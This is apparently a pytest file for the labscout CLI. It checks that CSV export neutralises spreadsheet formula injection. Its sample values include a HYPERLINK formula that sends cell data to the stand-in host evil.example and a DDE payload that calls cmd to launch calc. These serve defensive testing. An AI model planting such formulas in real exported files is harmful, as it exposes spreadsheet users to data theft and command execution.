"""CSV output never hands a spreadsheet a formula from the data (issue 15, case 8)."""

from __future__ import annotations

import csv
import io

import pytest
from typer.testing import CliRunner

from labscout.cli import app
from labscout.csvsafe import safe_cell
from labscout.index.build import build_index
from labscout.records import Author, Authorship, Institution, Work
from labscout.store import Batch, Store

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EVIL_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0 graph neural networks"
EVIL_INST = "+1-2 Institute"


@pytest.mark.parametrize(
    ("cell", "out"),
    [
        ("=1+1", "'=1+1"),
        ("+1-2 x", "'+1-2 x"),
        ("-cmd", "'-cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-0.25", "-0.25"),  # a number is left as it is
        ("+3", "+3"),
        ("plain", "plain"),
        ("", ""),
        (-0.5, -0.5),
        (None, None),
    ],
)
def test_safe_cell(cell, out) -> None:
    assert safe_cell(cell) == out


def test_find_csv_escapes_formulas_from_the_data(tmp_path) -> None:
    db = tmp_path / "evil.duckdb"
    with Store(db) as s:
        s.write(
            Batch(
                works=[
                    Work(
                        id="W1",
                        title=EVIL_TITLE,
                        abstract="graph neural networks for molecules",
                        publication_year=2024,
                        authorships=(Authorship("A1", "last", 0, institution_ids=("I1",)),),
                    )
                ],
                institutions=[Institution("I1", EVIL_INST, type="education")],
            )
        )
        s.write(Batch(authors=[Author("A1", EVIL_NAME, is_full=True)]))
        build_index(s, cache=False)
    result = CliRunner().invoke(
        app, ["find", "graph neural networks", "--db", str(db), "--format", "csv", "-q"]
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows, result.output
    row = rows[0]
    assert row["name"] == "'" + EVIL_NAME
    assert row["top_work_title"] == "'" + EVIL_TITLE
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
